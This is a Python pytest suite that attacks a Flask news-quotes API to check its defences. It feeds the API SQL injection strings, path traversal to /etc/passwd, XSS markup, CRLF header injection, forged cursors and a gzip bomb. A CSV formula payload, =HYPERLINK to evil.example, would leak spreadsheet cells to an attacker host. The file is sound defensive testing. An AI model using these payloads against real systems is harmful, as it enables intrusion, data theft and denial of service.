"""Attacks on every operation there is, found in the document and in the routes: a new one is attacked by itself."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import logging
import logging.config
import re
import time
from collections.abc import Callable
from typing import Any
from xml.etree import ElementTree

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import text

from extractors.model import Article, Kind, Speaker, SpeakerType
from service import corrections, logs
from service.api.blueprint import READS_QUERY, SCOPE
from service.api.formats import MIMETYPES
from service.api.resources import of_app
from service.store.database import Database
from service.store.keys import Scope, create_key
from service.store.writing import write_article

from .conftest import path_of
from .corpus import HARBOUR, fill, quote
from .test_openapi import CHECKED_IN

# What differs between the databases are the queries: what parameters and cursors do is tried on both.
ONE = pytest.mark.parametrize("app", ["sqlite"], indirect=True)
BROWSER = {"Accept": "text/html"}
DOCUMENT = json.loads(CHECKED_IN.read_text("utf-8"))
READS = {path: item["get"] for path, item in DOCUMENT["paths"].items() if "get" in item}
PARAMETERS = [
    (path, parameter["name"])
    for path, operation in READS.items()
    for parameter in operation.get("parameters", [])
    if parameter["in"] == "query"
]
LISTS = [
    path
    for path, operation in READS.items()
    if "cursor" in [parameter["name"] for parameter in operation.get("parameters", [])] and "{" not in path
]
NOT_KEPT = frozenset({"/jobs"})  # How far work is changes without the corpus.
HOSTILE = [
    *("' OR '1'='1", "' OR 1=1 --", '" OR ""="', "1; DROP TABLE quotes; --", "') UNION SELECT hash FROM api_keys --"),
    *("1 OR 1=1", "'||pg_sleep(3)||'", "randomblob(1000000000)", "%' ESCAPE '", "\\", "\\'", "$1", ":words", "?", "%s"),
    *(
        "%(x)s",
        "{0.__class__}",
        "{{7*7}}",
        "${7*7}",
        "NULL",
        "0x27",
        "-1",
        "1e309",
        "9" * 40,
        "\u0000",
        "\ud7ff",
        "\uffff",
    ),
    *(
        "＇ OR 1=1",
        "ʼ OR 1=1",
        "\u202e",
        "%00",
        "%27",
        "../../../etc/passwd",
        "..%2f..%2f",
        "file:///etc/passwd",
        "\r\nX: y",
    ),
    *(
        '"',
        '""',
        "*",
        "a*b*",
        "NEAR(a b)",
        "a AND",
        "NOT a",
        "folded:a",
        "^zz",
        "a <-> b",
        "a:*",
        "!zz",
        "(a",
        "-a -b",
        "“",
    ),
    *(
        "<script>alert(1)</script>",
        "🚢" * 40,
        "a" * 201,
        "é" * 200,
        " ",
        "\t",
        "[]",
        "{}",
        "true",
        "2024-02-30",
        "0001-01-01",
    ),
]


def blank(path: str, with_: str = "x") -> str:
    """A path with something in the place of its variables."""
    return re.sub(r"\{[^}]*\}", lambda _: with_, path)


@pytest.fixture
def admin(app: Flask) -> FlaskClient:
    """A client with a key for everything: what it may not do is refused for other reasons."""
    database = of_app(app).database
    with database.writing() as session:
        token = create_key(session, "attacker", Scope.ADMIN)
    client = app.test_client()
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    return client


def begins_so(item: dict[str, Any], words: str) -> bool:
    """Whether a speaker has a name that begins with the letters asked for: what stands between them never counts."""
    letters = re.sub(r"\W", "", words).casefold()
    names = (word for name in (item.get("name", ""), *item.get("aliases", ())) for word in name.casefold().split())
    return bool(letters) and any(name.startswith(letters) for name in names)


@pytest.mark.parametrize(("path", "name"), PARAMETERS)
def test_attacks_nothing_in_a_parameter_becomes_sql(admin: FlaskClient, path: str, name: str) -> None:
    documented = READS[path]["responses"]
    began = time.monotonic()
    for number, words in enumerate(HOSTILE):
        response = admin.get(blank(path), query_string={name: words})
        assert response.status_code < 500, (words, response.get_data(as_text=True))
        assert str(response.status_code) in documented, (words, response.status_code)
        if response.status_code == 200 and name not in ("limit", "sort", "facets") and "items" in (response.json or {}):
            found = [each for each in response.json["items"] if not begins_so(each, words)]
            assert found == [] or name in ("since", "until"), f"{words!r} found something"
        if number % 12 == 0:
            page = admin.get(blank(path), query_string={name: words}, headers=BROWSER)
            assert page.status_code in (response.status_code, 200, 406), (words, page.status_code)
            assert "<script>alert" not in page.get_data(as_text=True)
    assert time.monotonic() - began < 60
    assert len(admin.get("/quotes?limit=200").json["items"]) == 7


PATHS = [
    *(
        "%00",
        "%ff%fe",
        "%27%20OR%201=1--",
        "a%0d%0aSet-Cookie:x=y",
        "..%2f..%2f..%2fetc%2fpasswd",
        "....//....//etc/passwd",
    ),
    *(
        "%2e%2e/%2e%2e/",
        "..%5c..%5c",
        "%252e%252e%252f",
        "x" * 3000,
        "9" * 400,
        "-1",
        "%F0%9F%9A%A2",
        "%C0%AF",
        "con.json.csv",
    ),
    *("x;y=z", "x%3Fy=1", "x%23", "*", "%25", "None", "{}", ".json", "..json", "%20", "\u202e", "x/../../metrics"),
]


@ONE
@pytest.mark.parametrize("path", [path for path in READS if "{" in path])
@pytest.mark.parametrize("headers", [{}, BROWSER], ids=["data", "page"])
def test_attacks_nothing_in_a_path_leads_anywhere(admin: FlaskClient, path: str, headers: dict[str, str]) -> None:
    for words in PATHS:
        response = admin.get(blank(path, words), headers=headers)
        assert response.status_code in (404, 405, 308, 406), (words, response.status_code)
        assert "Set-Cookie" not in response.headers
        assert "root:" not in response.get_data(as_text=True)


@ONE
@pytest.mark.parametrize("words", PATHS)
def test_attacks_static_files_are_no_way_out(admin: FlaskClient, words: str) -> None:
    with admin.get(f"/static/{words}") as response:
        assert response.status_code in (404, 308)


def packed(*values: object) -> str:
    """A cursor made by hand."""
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


@pytest.mark.parametrize("path", LISTS)
def test_attacks_forged_cursors_are_refused(admin: FlaskClient, path: str) -> None:
    genuine = admin.get(f"{path}?limit=1").json["next"]
    if genuine is None:
        genuine = packed("0" * 10, "2024", 1)
    digest, *key = json.loads(base64.urlsafe_b64decode(genuine + "=="))
    forged = [
        *("x", genuine[:-2], genuine + "A", genuine[::-1], packed(), packed(digest), packed("0" * 10, *key)),
        *(packed(digest, *key, 1), packed(digest, *[[each] for each in key]), packed(digest, *[None for _ in key])),
        *(packed(digest, *[{"$gt": ""} for _ in key]), packed(digest, *[2**80 for _ in key])),
        *(packed(digest, *["' OR 1=1 --\x00" for _ in key]), packed(digest, *[float("1e400") for _ in key])),
        *(base64.urlsafe_b64encode(b"[" * 700).decode().rstrip("="), base64.urlsafe_b64encode(b"\xff" * 60).decode()),
    ]
    for cursor in forged:
        response = admin.get(path, query_string={"cursor": cursor})
        assert response.status_code == 422, (cursor, response.status_code)
        assert response.json["errors"][0]["field"] == "query.cursor"


ROUTES = sorted(
    {(method, path) for path, item in DOCUMENT["paths"].items() for method in item if method != "parameters"}
)


@ONE
@pytest.mark.parametrize(("method", "path"), [*ROUTES, ("get", "/"), ("get", "/docs"), ("get", "/openapi.json")])
def test_attacks_unknown_parameters_are_refused_everywhere(admin: FlaskClient, method: str, path: str) -> None:
    response = admin.open(blank(path, "1"), method=method.upper(), query_string={"verbose": "1"}, json={})
    assert response.status_code == 422
    assert [each["field"] for each in response.json["errors"]] == ["query.verbose"]


@ONE
@pytest.mark.parametrize("path", [path for path in READS if path != "/readyz"])  # That one loads the models.
def test_attacks_head_is_get_without_a_body(admin: FlaskClient, path: str) -> None:
    got, head = admin.get(blank(path)), admin.head(blank(path))
    assert head.status_code == got.status_code
    assert head.get_data() == b""
    ours = {"Content-Type", "ETag", "Cache-Control", "Content-Security-Policy", "Vary", "Link"}
    assert {each: head.headers.get(each) for each in ours} == {each: got.headers.get(each) for each in ours}


@pytest.mark.parametrize("path", DOCUMENT["paths"])
def test_attacks_options_say_what_is_taken_and_do_nothing(make_app: Callable[..., Flask], path: str) -> None:
    response = make_app(open_reading=False).test_client().options(blank(path, "1"))
    assert response.status_code == 200
    assert response.get_data() == b""
    taken = {method.upper() for method in DOCUMENT["paths"][path] if method != "parameters"}
    # More, where the last part of a path could also be an id (`/articles/bulk`).
    assert {each.strip() for each in response.headers["Allow"].split(",")} >= taken
    assert response.headers["Access-Control-Allow-Methods"] == "GET, HEAD, OPTIONS"


@ONE
@pytest.mark.parametrize("path", LISTS)
def test_attacks_every_list_has_an_etag_and_a_next_page(admin: FlaskClient, path: str) -> None:
    first = admin.get(path, query_string={"limit": 1})
    assert ('rel="next"' in first.headers.get("Link", "")) == (first.json["next"] is not None)
    if first.json["next"] is not None:
        address = first.headers["Link"].split(">")[0].lstrip("<")
        assert admin.get(address).json["items"] != first.json["items"]
    if path in NOT_KEPT:
        assert first.headers["Cache-Control"] == "no-store"
        return
    again = admin.get(path, query_string={"limit": 1}, headers={"If-None-Match": first.headers["ETag"]})
    assert (again.status_code, again.get_data()) == (304, b"")
    assert (
        admin.get(path, query_string={"limit": 2}, headers={"If-None-Match": first.headers["ETag"]}).status_code == 200
    )


@pytest.mark.parametrize("path", [path for path, each in READS.items() if "{" not in path and path not in NOT_KEPT])
def test_attacks_what_nobody_may_read_is_not_read(make_app: Callable[..., Flask], path: str) -> None:
    status = make_app(open_reading=False).test_client().get(path).status_code
    assert status == (200 if path in ("/livez", "/readyz") else 401) or (path == "/readyz" and status == 503)


def test_attacks_every_route_that_writes_needs_a_key_for_it(make_app: Callable[..., Flask]) -> None:
    """From the routes, not from the document: one that is registered past it is found too."""
    app = make_app()
    with of_app(app).database.writing() as session:
        reader = {"Authorization": f"Bearer {create_key(session, 'reader', Scope.READ)}"}
    client = app.test_client()
    writes = [
        (method, rule)
        for rule in app.url_map.iter_rules()
        for method in sorted((rule.methods or set()) - {"GET", "HEAD", "OPTIONS"})
    ]
    assert len(writes) >= 7
    for method, rule in writes:
        path = blank(path_of(rule), "1")
        scope = getattr(app.view_functions[rule.endpoint], SCOPE, "read")
        if scope == "extract":
            assert path == "/extract"
            continue
        assert scope in ("write", "admin"), f"{method} {path} needs no key"
        assert client.open(path, method=method).status_code == 401, path
        assert client.open(path, method=method, headers=reader).status_code == 403, path
        shared = client.open(path, method=method, headers={"Origin": "https://a.example"})
        assert "Access-Control-Allow-Origin" not in shared.headers


@pytest.mark.parametrize("header", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_attacks_methods_are_what_they_are(make_app: Callable[..., Flask], header: str) -> None:
    app = make_app()
    fill(of_app(app).database)
    client = app.test_client()
    article = client.get("/articles").json["items"][0]["id"]
    for method in ("GET", "POST"):
        client.open(f"/articles/{article}", method=method, headers={header: "DELETE"}, data={"_method": "DELETE"})
    assert client.get(f"/articles/{article}").status_code == 200


def test_attacks_views_that_read_a_query_say_so(make_app: Callable[..., Flask]) -> None:
    app = make_app()
    for path, operation in READS.items():
        if not any(each["in"] == "query" for each in operation.get("parameters", [])):
            continue
        endpoint, _ = app.url_map.bind("x").match(blank(path, "1"))
        assert getattr(app.view_functions[endpoint], READS_QUERY, False), path


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>]]>&amp;\u202e"


@pytest.fixture(params=[FORMULA, MARKUP, "@SUM(1)", "\t=1"], ids=["formula", "markup", "at", "tab"])
def poisoned(request: pytest.FixtureRequest, make_app: Callable[..., Flask]) -> tuple[FlaskClient, str]:
    """A client over two articles whose every field holds hostile words."""
    words = request.param
    speaker = Speaker(words, "evil", SpeakerType.PERSON, (words + " II",), (words,))
    app = make_app()
    for number in range(2):
        article = Article(
            f"{words} said Eve.\n",
            id=f"{words}{number}",
            outlet=f"{words}{number}",
            title=words,
            url=f"https://a.example/?{number}{words.strip()}",
            byline=words,
            wire=words,
            language=words[:30],
        )
        found = quote(article, Kind.DIRECT, [words.strip()], "said", "Eve", speaker)
        with of_app(app).database.writing() as session:
            write_article(session, article, [found], extractor="test")
    decide(of_app(app).database, words)
    return app.test_client(), words


def decide(database: Database, words: str) -> None:
    """A decision about a speaker in hostile words, by somebody of a hostile name."""
    corrections.alias(database, "evil", words + " III", by=words, why=words)


CSVS = [path for path, each in READS.items() if "text/csv" in each["responses"]["200"]["content"]]


@pytest.mark.parametrize("path", CSVS)
def test_attacks_no_cell_of_any_table_is_a_formula(poisoned: tuple[FlaskClient, str], path: str) -> None:
    client, words = poisoned
    lines = client.get(f"{path}.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(lines)))
    assert len(rows) > 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert words.strip()[:8] in lines
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), cell


def test_attacks_stored_markup_is_words_in_every_output(poisoned: tuple[FlaskClient, str]) -> None:
    client, words = poisoned
    item = client.get("/quotes").json["items"][0]
    ids = {
        "quote_id": item["id"],
        "article_id": item["article"]["id"],
        "slug": "evil",
        "outlet": item["article"]["outlet"],
    }
    for path, operation in READS.items():
        for name, value in ids.items():
            path = path.replace(f"{{{name}}}", value)
        if "{" in path or path == "/jobs":
            continue
        for mimetype in [*operation["responses"]["200"]["content"], "text/html"]:
            response = client.get(path, headers={"Accept": mimetype})
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            if response.status_code != 200:
                assert mimetype == "text/html", (path, mimetype)
                continue
            written = response.get_data(as_text=True)
            if response.mimetype == MIMETYPES["atom"]:
                assert words.strip() in "".join(ElementTree.fromstring(written).itertext())
            if response.mimetype in (MIMETYPES["json"], MIMETYPES["jsonld"]):
                json.loads(written)
            if response.mimetype in ("text/html", MIMETYPES["atom"]):
                assert "<script>alert" not in written, (path, mimetype)
                assert "<img src=x" not in written
            else:
                assert "html" not in response.mimetype


def test_attacks_packed_bodies_are_never_unpacked(make_app: Callable[..., Flask]) -> None:
    app = make_app()
    with of_app(app).database.writing() as session:
        token = create_key(session, "desk", Scope.ADMIN)
    bomb = gzip.compress(b"{" + b" " * 50_000_000 + b"}")
    began = time.process_time()
    for method, path in ROUTES:
        if method in ("post", "patch", "put"):
            for coding in ("gzip", "deflate", "br", "gzip, gzip", "x-unknown"):
                headers = {"Authorization": f"Bearer {token}", "Content-Encoding": coding}
                kind = next(iter(DOCUMENT["paths"][path][method]["requestBody"]["content"]))
                response = app.test_client().open(
                    blank(path, "1"), method=method.upper(), data=bomb, content_type=kind, headers=headers
                )
                assert response.status_code == 415, (path, coding)
    assert time.process_time() - began < 5


SECRET = "Zanzibar marmalade"


def test_attacks_logs_hold_no_word_of_an_article_whatever_breaks(
    make_app: Callable[..., Flask], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    app = make_app()
    with of_app(app).database.writing() as session:
        token = create_key(session, "desk", Scope.WRITE)

    def refused(_: object, article: Article, *__: object, **___: object) -> None:
        with of_app(app).database.writing() as session:
            session.execute(text("INSERT INTO nowhere VALUES (:words)"), {"words": article.text})

    def broken(_: object, article: Article, *__: object, **___: object) -> None:
        raise ValueError(f"cannot read {article.text}") from KeyError(article.text)

    before = logging.root.handlers[:], logging.root.level
    try:
        logging.config.dictConfig(logs.configuration("debug"))
        for failing in (refused, broken):
            monkeypatch.setattr("service.extraction.Extraction.ingest", failing)
            monkeypatch.setattr("service.extraction.Extraction.extract", failing)
            for path in ("/articles", "/extract"):
                body = {"text": SECRET} if path == "/extract" else {"text": SECRET, "outlet": SECRET, "title": SECRET}
                headers = {"Authorization": f"Bearer {token}"}
                response = app.test_client().post(path, json=body, headers=headers)
                assert response.status_code in (500, 503)
                assert SECRET not in response.get_data(as_text=True)
        app.test_client().get(
            f"/quotes?q={SECRET}", headers={"Authorization": f"Bearer {token[:-1]}", "Cookie": SECRET}
        )
    finally:
        logging.root.handlers[:], level = before
        logging.root.setLevel(level)
    written = capsys.readouterr().err
    assert "ValueError" in written
    assert "KeyError" in written
    for secret in (SECRET, SECRET.split()[0], token, token.split("_")[2]):
        assert secret not in written


@pytest.mark.parametrize("path", ["/quotes", "/articles", "/outlets", "/speakers?sort=name"])
def test_attacks_pages_are_stable_under_inserts(make_app: Callable[..., Flask], path: str) -> None:
    app = make_app()
    database = of_app(app).database
    fill(database)
    client = app.test_client()
    name = {"/quotes": "id", "/articles": "id"}.get(path, "slug")
    whole = [item[name] for item in client.get(path).json["items"]]
    joint = "&" if "?" in path else "?"
    seen: list[str] = []
    address: str | None = f"{path}{joint}limit=1"
    while address:
        response = client.get(address)
        seen += [item[name] for item in response.json["items"]]
        number = len(seen)
        article = Article(
            HARBOUR.text, id=f"new{number}", outlet=f"New {number}", title="T", published_at=HARBOUR.published_at
        )
        speaker = Speaker(f"New {number}", f"new-{number}", SpeakerType.PERSON)
        found = quote(article, Kind.DIRECT, ["It stays open."], "said", "Ana Lindström", speaker)
        with database.writing() as session:
            write_article(session, article, [found], extractor="test")
        link = response.headers.get("Link")
        address = link.split(">")[0].lstrip("<") if link and number < 30 else None
    assert len(seen) == len(set(seen))
    assert [each for each in seen if each in whole] == whole
